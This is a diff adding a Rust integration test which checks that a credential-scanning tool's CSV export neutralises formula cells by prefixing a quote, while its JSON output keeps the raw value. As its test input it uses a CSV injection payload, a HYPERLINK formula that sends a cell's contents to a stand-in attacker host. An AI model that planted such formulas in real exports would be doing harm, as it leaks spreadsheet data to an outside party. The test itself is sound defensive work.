@@ -404,6 +404,35 @@ async fn signs_in_from_flags_without_a_configuration_file() {
     assert!(!all(&output).contains(&scenario.rotator_secret));
 }
 
+/// CSV injection: a display name or credential name that a spreadsheet would run as a
+/// formula is written as text (leading `'`); JSON and the numbers are unchanged.
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let scenario = Scenario::start().await.unwrap();
+    let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+    let app = scenario.tenant.register_app(hostile);
+    let now = Utc::now();
+    scenario
+        .tenant
+        .add_replicated_password(app.object_id, Some("@SUM(1+1)".into()), now - ChronoDuration::days(5), now - ChronoDuration::days(2))
+        .unwrap();
+    let csv = scan(&scenario, &["--output", "csv"]).await;
+    assert!(csv.status.success(), "{}", all(&csv));
+    let records = parse_csv(&stdout(&csv));
+    let row = records.iter().find(|r| r[1] == app.app_id.to_string()).expect("the hostile application's row");
+    assert_eq!(row[0], format!("'{hostile}"));
+    assert_eq!(row[5], "'@SUM(1+1)");
+    assert_eq!(row[8], "-2", "a negative number of days stays a number");
+    for record in &records[1..] {
+        for cell in record {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+    }
+    let json = scan(&scenario, &["--output", "json"]).await;
+    let rows = json_rows(&json);
+    assert!(rows.iter().any(|r| r["appDisplayName"] == hostile), "JSON carries the name as Graph has it");
+}
+
 /// RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks.
 fn parse_csv(text: &str) -> Vec<Vec<String>> {
     let mut records = Vec::new();
